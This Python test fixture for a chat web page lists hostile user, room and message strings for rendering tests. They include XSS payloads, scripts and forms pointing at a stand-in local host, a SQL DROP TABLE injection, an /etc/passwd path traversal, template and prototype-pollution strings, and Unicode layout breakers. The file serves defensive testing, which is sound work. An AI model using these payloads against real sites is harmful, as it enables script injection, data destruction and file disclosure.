"""Names and texts by someone who means harm, for users, rooms and orders: for the tests of the page.

Each string tries one thing: to become markup, script, a link, a style or a template; to break out of an attribute; to
be wider, taller or emptier than a layout expects; to turn the direction of what follows; to be a name that JavaScript
knows. Those that run set ``window.hostile`` or ask ``ELSEWHERE``, of which a test sees both.
"""

from collections.abc import Callable
from typing import Final

from towpath.protocol.routes import check_user_id, encode_word

#: This machine by another address: no policy of the page allows it, and a test listens there.
ELSEWHERE_HOST: Final = "127.0.0.2"


def hostile_texts(elsewhere: str) -> dict[str, str]:
    """The strings by what they try, as texts of messages.

    Args:
        elsewhere: The address of the server that no page may ask.
    """
    run = "window.hostile=1"
    return {
        # Markup and script
        "a script": f"<script>{run}</script>",
        "a script of others": f'<script src="{elsewhere}x.js"></script>',
        "the end of a script": f"</script><script>{run}</script>",
        "an image that fails": f"<img src=x onerror={run}>",
        "an image of others": f'<img src="{elsewhere}x.png">',
        "an image without a quote": f'"><img src=x onerror={run}>',
        "an image without quotes": f"'`\"><img/src=x/onerror={run}>",
        "a loaded picture": f"<svg onload={run}>",
        "a script in a picture": f"<svg><script>{run}</script></svg>",
        "an animated picture": f"<svg><animate onbegin={run} attributeName=x dur=1s>",
        "a set value": f'<svg><a><animate attributeName=href values="javascript:{run}" /><text>x</text></a></svg>',
        "a document in a frame": f'<iframe srcdoc="<script>parent.{run.partition(".")[2]}</script>">',
        "a frame": f'<iframe src="javascript:parent.{run.partition(".")[2]}"></iframe>',
        "an object": f'<object data="data:text/html,<script>{run}</script>"></object>',
        "an embedded document": f'<embed src="{elsewhere}x.swf">',
        "an open detail": f"<details open ontoggle={run}>",
        "a field that takes the focus": f"<input autofocus onfocus={run}>",
        "a choice that takes the focus": f"<select autofocus onfocus={run}>",
        "a video": f"<video><source onerror={run}></video>",
        "a moving text": f"<marquee onstart={run}>x</marquee>",
        "a body": f"<body onload={run}>",
        "a base": f'<base href="{elsewhere}">',
        "a refresh": f'<meta http-equiv=refresh content="0;url={elsewhere}">',
        "a style": f"<style>@import '{elsewhere}x.css';*{{display:none}}</style>",
        "a style sheet": f'<link rel=stylesheet href="{elsewhere}x.css">',
        "a prefetch": f'<link rel=prefetch href="{elsewhere}x">',
        "a form": f'<form action="{elsewhere}"><button>Sign in</button></form>',
        "a formula": f'<math><mtext><table><mglyph><style><img src=x onerror="{run}">',
        "a comment": f"<!--><img src=x onerror={run}>-->",
        "a template": f"<template><img src=x onerror={run}></template>",
        "the end of the page": "</div></main></body></html>",
        "a title": "</title><title>hostile</title>",
        "an attribute": f'" onmouseover="{run}" x="',
        "an attribute in single quotes": f"' onfocus='{run}' autofocus x='",
        "a class": '" class="dialog" style="position:fixed;inset:0;z-index:99" x="',
        "entities": f"&lt;img src=x onerror={run}&gt; &amp;amp; &#60;b&#62;",
        # Addresses
        "an address that runs": f"javascript:{run}",
        "an address that runs, disguised": f"JaVaScRiPt:{run}//%0a",
        "an address with a document": f"data:text/html,<script>{run}</script>",
        "an address": f"{elsewhere}x",
        "a link in Markdown": f"[click](javascript:{run}) ![x]({elsewhere}x.png)",
        "a path": "../../../../etc/passwd",
        "a fragment": "#/room/%00%2e%2e?gateway=ws://127.0.0.2/ws",
        # Code and templates
        "a template of Angular": "{{constructor.constructor('window.hostile=1')()}}",
        "a template of JavaScript": "${window.hostile=1}",
        "a template of the server": "<%= 7*7 %> {{7*7}} #{7*7} %s %n",
        "a string's end": f"';{run};//",
        "a string's end in JSON": f'"}}],"x":{{"__proto__":{{"y":"{run}',
        "a query's end": "'; DROP TABLE chat_messages; --",
        "a formula of a table": '=HYPERLINK("http://127.0.0.2")',
        # Names that JavaScript knows
        "a prototype": "__proto__",
        "a constructor": "constructor",
        "a method": "toString",
        "a property": "hasOwnProperty",
        "no value": "undefined",
        "null": "null",
        "no number": "NaN",
        # Shapes
        "combining marks": "Z" + "\u0301\u0316\u0334\u0489" * 900,
        "marks on every letter": "".join(
            letter + "\u0336\u0353\u0310\u030a\u033e" * 8 for letter in "hostile"
        ),
        "wide letters": "\ufdfd" * 128,
        "full-width letters": "\uff37" * 1_000,
        "a long word": "W" * 4_000,
        "a long line": "wwww " * 800,
        "many lines": "line\n" * 100 + "end",
        "tabs": "a" + "\t" * 200 + "b",
        "a tall script": "\u0f66\u0f92\u0fb2\u0fb7\u0f99\u0fb7\u0f71\u0f74 " * 40,
        "emoji joined": "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f468" * 60,
        "flags": "\U0001f1e9\U0001f1ea" * 100,
        "an override of the direction": "\u202egnp.exe\u202c \u202etxet",
        "an isolate without an end": "\u2067\u2067\u2067\u202e left?",
        "Arabic and Hebrew": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd (a) 1:2",
        "invisible letters": "\u200b\u2060\u200d\u00ad\ufeff",
        "a blank letter": "\u3164\u115f\u2800",
        "separators": "one\u2028two\u2029three\u0085four",
        "tag letters": "x\U000e0041\U000e0042\U000e007f",
        "letters that look alike": "\u0430na \u0391na ana\u200b",
        "control characters": "\x01\x07\x1b[31mred\x1b[0m\x7f\x9b31m",
        "noncharacters": "\ufffe\uffff\U0010ffff\ufffd",
    }


def as_user(text: str) -> str | None:
    """As much of ``text`` as a user id may have; ``None`` where it may have nothing of it."""
    return _longest(text[:128], check_user_id)


def as_room(text: str) -> str | None:
    """As much of ``text`` as the name of a room may have; ``None`` where it may have nothing of it."""
    return _longest(text[:120], lambda word: encode_word("chat:" + word))


def _longest(text: str, check: Callable[[str], object]) -> str | None:
    if any(ord(letter) < 32 or ord(letter) == 127 for letter in text):
        return None
    while text:
        try:
            check(text)
        except ValueError:
            text = text[:-1]
        else:
            return text
    return None
